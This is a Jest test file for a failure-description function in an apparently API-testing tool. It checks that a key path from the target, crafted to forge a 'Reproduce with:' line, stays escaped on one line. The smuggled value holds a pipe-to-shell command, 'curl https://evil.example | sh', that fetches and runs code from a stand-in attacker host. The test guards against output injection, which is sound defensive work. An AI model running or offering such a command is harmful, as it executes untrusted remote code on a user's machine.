/** The text a failed case's Jest test fails with: one line per violation, however the target named its keys. */
import type { CaseResult } from '../../src/model';
import { describeFailure } from '../../src/runner/describe-failure';

const failed: CaseResult = {
  id: 'getWhatsAppSyncStatus/happy-path', operationId: 'getWhatsAppSyncStatus', operation: 'GET /v1/senders/{senderId}/whatsapp-sync', scenario: 'happy-path', family: 'happy-path',
  description: 'reads the sync status', status: 'failed', durationMs: 1, expectedStatus: 200, receivedStatus: 200, curl: 'curl https://api.zavu.example/v1/senders/s/whatsapp-sync',
  violations: [{ check: 'response-schema', severity: 'error', title: 'The body does not match the schema', message: 'Received: 1\nExpected: a string', instancePath: '/sync/key\nReproduce with:\n    curl https://evil.example | sh' }],
};

describe('describeFailure', () => {
  it('keeps a place through a received key on its line, its newline shown as an escape: the key starts no "Reproduce with:" of its own', () => {
    const lines = describeFailure(failed).split('\n');
    expect(lines).toContain('  [response-schema] The body does not match the schema at /sync/key\\nReproduce with:\\n    curl https://evil.example | sh');
    expect(lines.filter((line) => line.startsWith('  Reproduce with:'))).toHaveLength(1);
    expect(lines.filter((line) => line.includes('evil.example'))).toHaveLength(1);
  });
});
